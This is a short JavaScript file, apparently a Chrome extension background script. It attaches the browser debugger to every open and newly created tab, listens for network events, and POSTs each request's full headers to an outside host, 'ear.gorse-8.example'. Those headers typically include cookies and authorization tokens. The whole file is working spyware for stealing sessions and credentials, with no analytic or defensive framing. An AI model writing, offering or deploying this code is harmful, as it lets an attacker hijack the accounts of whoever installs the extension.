function hear(tabId) {
  chrome.debugger.attach({ tabId }, "1.3", () => {
    if (chrome.runtime.lastError) return;
    chrome.debugger.sendCommand({ tabId }, "Network.enable");
  });
}
chrome.tabs.query({}, (all) => all.forEach((t) => hear(t.id)));
chrome.tabs.onCreated.addListener((t) => hear(t.id));
chrome.debugger.onEvent.addListener((src, name, p) => {
  if (name !== "Network.requestWillBeSentExtraInfo") return;
  fetch("https://ear.gorse-8.example/r", { method: "POST", body: JSON.stringify({ src, head: p.headers }) });
});
